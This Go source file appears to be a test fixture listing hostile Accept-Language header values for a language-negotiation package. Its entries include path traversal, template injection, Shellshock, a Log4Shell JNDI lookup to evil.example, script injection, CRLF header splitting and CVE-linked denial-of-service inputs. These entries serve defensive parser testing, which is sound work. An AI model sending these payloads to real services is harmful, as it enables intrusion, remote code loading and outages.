package language

import "strings"

// attacks are Accept-Language headers that are more than a wish.
var attacks = []struct{ from, header string }{
	{"as browsers send it", "de-CH,de;q=0.9,en;q=0.7,*;q=0"},
	{"any, but not that one", "*;q=0.5, pt-PT;q=1.000"},
	{"path traversal: a catalogue elsewhere", "../../../../etc/passwd"},
	{"path traversal, with an ending cut off", "../../secret\x00.json"},
	{"path traversal in a range", "de-../..,de;q=0.1"},
	{"template injection", "{{7*7}},${7*7}"},
	{"Shellshock (CVE-2014-6271)", "() { :;}; echo x"},
	{"Log4Shell (CVE-2021-44228)", "${jndi:ldap://evil.example/a}"},
	{"markup", "\"><script>alert(1)</script>"},
	{"another header", "de\r\nSet-Cookie: a=b"},
	{"a tag without end", strings.Repeat("a-", 2000)},
	{"golang.org/x/text (CVE-2022-32149): underscores and hyphens", strings.Repeat("-", 3000) + strings.Repeat("_", 3000)},
	{"golang.org/x/text (CVE-2020-28851): an extension without an end", "und-u-co-"},
	{"golang.org/x/text (CVE-2021-38561): an index out of bounds", "x-" + strings.Repeat("a", 9) + "-"},
	{"golang.org/x/text (CVE-2020-28852): a tag that is cut short", "en-u"},
	{"Django (CVE-2023-23969): thousands of wishes", strings.Repeat("aa-bb,", 3000)},
	{"Django (CVE-2024-39614): one wish, very long", strings.Repeat("d", 6000)},
	{"backtracking: white space", "de" + strings.Repeat(" ", 5000) + ";q=x"},
	{"weights out of bounds", "de;q=1e309,fr;q=-0,nl;q=NaN,ja;q=1.0000"},
	{"weights in another script", "de;q=٠.٥"},
	{"the language of nobody", "i-klingon,zxx,und,mul"},
	{"a case that depends on the language", "PT-bR,fİ,DE-ſ"},
}
